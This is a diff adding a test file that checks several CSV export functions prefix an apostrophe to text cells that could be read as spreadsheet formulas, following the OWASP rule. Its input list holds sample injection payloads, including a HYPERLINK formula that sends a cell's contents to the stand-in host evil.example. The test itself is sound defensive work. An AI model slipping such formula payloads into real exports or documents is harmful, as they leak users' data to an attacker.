@@ -1,0 +1,45 @@
+/**
+ * Issue 11, item 9: CSV downloads (the dashboard's chart CSV, the report tables' CSV and the
+ * planning table's) must not hand a spreadsheet a formula. Text cells starting with =, +, -, @, tab or CR get a leading
+ * apostrophe (the OWASP rule); numbers keep their sign.
+ */
+import { describe, expect, it } from 'vitest';
+import { tableCsv, type BuiltTable } from '../../server/notebooks/tables.ts';
+import { exportCsv } from '../../web/src/exportRows.ts';
+import { tableToCsv } from '../../server/outputs/csv.ts';
+
+const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'];
+
+describe('CSV formula injection', () => {
+  it('the dashboard CSV neutralises text cells and keeps numbers', () => {
+    const csv = exportCsv({ headers: ['=名称', '值'], decimals: [undefined, 1], rows: HOSTILE.map((name, i) => [name, -1.5 * (i + 1)]) });
+    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
+    expect(lines[0]).toBe("'=名称,值");
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1.5`);
+    expect(lines[2]).toBe("'+1+1,-3.0");
+    expect(lines[3]).toBe("'-2+3,-4.5");
+    expect(lines[4]).toBe("'@SUM(A1:A2),-6.0");
+    expect(lines[5]).toBe("'\t=1,-7.5");
+    expect(lines[6]).toBe(`"'\r=1",-9.0`);
+  });
+
+  it('the server table files (planning table, 考核) neutralise text cells and keep numbers', () => {
+    const csv = tableToCsv({ title: 't', columns: [{ header: '乡镇' }, { header: '人数', decimals: 0 }], rows: HOSTILE.map((name, i) => [name, -(i + 1)]) });
+    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1`);
+    expect(lines[2]).toBe("'+1+1,-2");
+    expect(lines[6]).toBe(`"'\r=1",-6`);
+  });
+
+  it('report tables neutralise text cells and keep formatted numbers', () => {
+    const table: BuiltTable = {
+      title: 't', note: '',
+      columns: [{ field: 'name', header: '乡镇', formats: [] }, { field: 'change', header: '增减', formats: ['fixed:1'] }],
+      rows: HOSTILE.map((name, i) => ({ name, change: -(i + 1) })),
+    };
+    const lines = tableCsv(table).replace(/^\uFEFF/, '').split('\r\n');
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1.0`);
+    expect(lines[3]).toBe("'-2+3,-3.0");
+    expect(lines[4]).toBe("'@SUM(A1:A2),-4.0");
+  });
+});
